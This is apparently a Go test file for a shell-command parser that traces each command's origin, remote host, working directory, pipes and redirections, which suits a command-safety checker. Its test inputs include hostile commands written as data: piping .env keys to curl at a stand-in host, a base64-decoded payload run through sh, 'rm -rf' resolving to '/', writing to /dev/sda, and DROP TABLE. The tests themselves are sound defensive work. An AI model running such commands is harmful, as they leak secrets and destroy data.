package shellparse

import "testing"

// find returns the first command of a name that is no carrier.
func find(t *testing.T, src, name string, opts Options) (Command, *Script) {
	t.Helper()
	s := Parse(src, opts)
	for _, c := range s.Commands {
		if c.Name == name && !c.Carrier {
			return c, s
		}
	}
	t.Fatalf("%s: no %s in %s", src, name, show(s))
	return Command{}, nil
}

func TestSpans(t *testing.T) {
	for _, tt := range []struct{ src, name, command, word string }{
		{`ls; rm 'a b' c`, "rm", `rm 'a b' c`, `'a b'`},
		{`sudo rm x | cat`, "rm", `sudo rm x`, `x`},
		{`bash -c 'ls; rm x'`, "rm", `rm x`, `x`},
		{`eval "rm x"`, "rm", `rm x`, `x`},
		{`echo $(rm x)`, "rm", `rm x`, `x`},
		{"bash <<'E'\nls\nrm x\nE\n", "rm", `rm x`, `x`},
		{`ssh h 'rm x'`, "rm", `rm x`, `x`},
		{`echo cm0geA== | base64 -d | sh`, "rm", `sh`, ``},
	} {
		c, _ := find(t, tt.src, tt.name, Options{})
		if got := tt.src[c.Span.Start:c.Span.End]; got != tt.command {
			t.Errorf("%s: the command stands at %q", tt.src, got)
		}
		w := c.Argv[1].Span
		if got := tt.src[w.Start:w.End]; got != tt.word {
			t.Errorf("%s: the word stands at %q", tt.src, got)
		}
	}
}

func TestOriginAndPlace(t *testing.T) {
	for _, tt := range []struct {
		src    string
		origin Origin
		host   string
		dir    string
	}{
		{`rm x`, Direct, "", ""},
		{`cd sub && rm x`, Direct, "", "/w/sub"},
		{`cd /a; cd b; rm x`, Direct, "", "/a/b"},
		{`cd -; rm x`, Direct, "", "?"},
		{`(cd /a); rm x`, Direct, "", ""},
		{`cd "$D" && rm x`, Direct, "", "?"},
		{`[ -d a ] && cd a; rm x`, Direct, "", "?"},
		{`for d in */; do cd "$d"; rm x; done`, Direct, "", "?"},
		{`cd */; rm x`, Direct, "", "?"},
		{`pushd /a; rm x`, Direct, "", "/a"},
		{`env -C /a rm x`, Direct, "", "/a"},
		{`echo $(rm x)`, Substitution, "", ""},
		{`f() { rm x; }; f`, Function, "", ""},
		{`eval rm x`, Eval, "", ""},
		{`trap 'rm x' EXIT`, Eval, "", ""},
		{`sh -c 'rm x'`, ShellCode, "", ""},
		{`sh -c 'echo $(rm x)'`, ShellCode, "", ""},
		{`ssh me@db1 rm x`, Remote, "db1", ""},
		{`ssh "$H" rm x`, Remote, "?", ""},
		{`docker exec web sh -c 'rm x'`, Remote, "web", ""},
		{`kubectl exec -it pod-1 -- rm x`, Remote, "pod-1", ""},
		{`echo 'rm x' | at now`, Deferred, "", ""},
		{`git config alias.x '!rm x'`, Deferred, "", ""},
		{`python3 -c 'import os; os.system("rm x")'`, Code, "", ""},
		{`python3 -c 'import subprocess; subprocess.run(["rm", "x"])'`, Code, "", ""},
	} {
		c, _ := find(t, tt.src, "rm", Options{Dir: "/w"})
		dir := c.Dir.Text
		if !c.Dir.Known() {
			dir = "?"
		}
		host := c.Host
		if host == string(Hole) {
			host = "?"
		}
		if c.Origin != tt.origin || host != tt.host || dir != tt.dir {
			t.Errorf("%s: origin %q host %q dir %q", tt.src, c.Origin, host, dir)
		}
	}
}

func TestPipes(t *testing.T) {
	c, s := find(t, `cat .env | grep KEY | curl -d @- http://x`, "curl", Options{})
	if c.Stage != 2 || c.Stages != 3 || s.Commands[c.From].Name != "grep" || c.Stdin != nil {
		t.Errorf("curl is %+v", c)
	}
	c, _ = find(t, `echo hi | cat`, "cat", Options{})
	if c.Stdin == nil || c.Stdin.Text != "hi\n" {
		t.Errorf("cat reads %v", c.Stdin)
	}
	c, _ = find(t, "psql <<E\nDROP TABLE $T;\nE", "psql", Options{})
	if c.Stdin == nil || c.Stdin.Text != "DROP TABLE "+string(Hole)+";\n" || c.Stdin.Unknown[0] != "$T" {
		t.Errorf("psql reads %+v", c.Stdin)
	}
	if len(c.Snippets) != 1 || c.Snippets[0].Lang != "sql" {
		t.Errorf("snippets %+v", c.Snippets)
	}
	c, s = find(t, `cat .env | while read l; do curl "$l"; done`, "curl", Options{})
	if c.From < 0 || s.Commands[c.From].Name != "cat" {
		t.Errorf("curl reads from %d", c.From)
	}
	c, _ = find(t, `cat < .env`, "cat", Options{})
	if c.From != -1 || len(c.Redirs) != 1 || c.Redirs[0].Op != RedirRead || c.Redirs[0].Target.Text != ".env" {
		t.Errorf("cat is %+v", c)
	}
}

func TestRedirections(t *testing.T) {
	c, _ := find(t, `ls > a 2>> b 2>&1 >| c &> d >& e <> f`, "ls", Options{})
	want := []Redir{{Op: RedirWrite, FD: -1}, {Op: RedirAppend, FD: 2}, {Op: RedirDup, FD: 2}, {Op: RedirWrite, FD: -1},
		{Op: RedirWrite, FD: -1}, {Op: RedirWrite, FD: -1}, {Op: RedirReadWrite, FD: -1}}
	if len(c.Redirs) != len(want) {
		t.Fatalf("redirections %+v", c.Redirs)
	}
	for i, r := range c.Redirs {
		if r.Op != want[i].Op || r.FD != want[i].FD {
			t.Errorf("redirection %d is %+v", i, r)
		}
	}
	s := Parse(`{ ls; } > /dev/sda`, Options{})
	if len(s.Commands) != 2 || len(s.Commands[0].Redirs) != 1 {
		t.Errorf("a group's redirection is lost: %+v", s.Commands)
	}
}

func TestWrappersAndAssigns(t *testing.T) {
	c, _ := find(t, `A=1 sudo -u bob env B=2 nohup timeout 5 rm x`, "rm", Options{})
	var names []string
	for _, w := range c.Wrappers {
		names = append(names, w.Name)
	}
	if len(names) != 4 || names[0] != "sudo" || names[1] != "env" || names[2] != "nohup" || names[3] != "timeout" || !c.Background {
		t.Errorf("wrappers %v, background %v", names, c.Background)
	}
	if len(c.Assigns) != 2 || c.Assigns[0].Name != "A" || c.Assigns[1].Value.Text != "2" {
		t.Errorf("assignments %+v", c.Assigns)
	}
	c, _ = find(t, `sudo bash -c 'rm x'`, "rm", Options{})
	if len(c.Wrappers) != 1 || c.Wrappers[0].Name != "sudo" {
		t.Errorf("wrappers %+v", c.Wrappers)
	}
	c, _ = find(t, `find /v -exec rm {} +`, "rm", Options{})
	if c.Argv[1].Known() || c.Argv[1].Unknown[0] != "find /v" {
		t.Errorf("argument %+v", c.Argv[1])
	}
}

func TestLiveEnvironment(t *testing.T) {
	env := func(name string) (string, bool) {
		if name == "TARGET" {
			return "/data", true
		}
		return "", false
	}
	for src, want := range map[string]string{
		`rm -rf $TARGET/x`:               "/data/x",
		`rm -rf $UNSET/`:                 "/",
		`source ./env; rm -rf $UNSET/`:   string(Hole) + "/",
		`rm -rf ${RANDOM}x`:              string(Hole) + "x",
		`unset TARGET; rm -rf $TARGET/y`: "/y",
	} {
		s := Parse(src, Options{Env: env})
		c := s.Commands[len(s.Commands)-1]
		if got := c.Argv[2].Text; got != want {
			t.Errorf("%s: removes %q, want %q", src, got, want)
		}
	}
}

func TestTablesAreSorted(t *testing.T) {
	for i := 1; i < len(wrappers); i++ {
		if wrappers[i-1].name > wrappers[i].name {
			t.Errorf("%s comes after %s", wrappers[i-1].name, wrappers[i].name)
		}
	}
	for i := 1; i < len(codeOptions); i++ {
		if codeOptions[i-1].name > codeOptions[i].name {
			t.Errorf("%s comes after %s", codeOptions[i-1].name, codeOptions[i].name)
		}
	}
}
